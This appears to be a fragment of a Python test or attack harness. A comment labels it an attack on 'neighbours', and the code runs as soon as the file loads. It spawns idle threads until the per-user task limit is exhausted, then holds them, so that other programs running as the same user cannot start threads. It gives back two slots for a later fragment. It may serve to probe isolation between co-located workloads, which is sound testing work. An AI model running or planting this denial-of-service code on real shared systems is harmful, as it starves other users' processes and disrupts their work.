# ATTACK (neighbours): take every task (process or thread) the per-user limit allows and
# hold them, so that a neighbour running as the same user cannot start its threads.
# (Two are given back at once, for the last fragment's helper.)
_HELD = []


def _take_all_tasks():
    while len(_HELD) < 20000:
        release = _threading.Event()
        try:
            _threading.Thread(target=release.wait, daemon=True).start()
        except RuntimeError:
            break
        _HELD.append(release)
    for release in _HELD[-2:]:
        release.set()


_take_all_tasks()
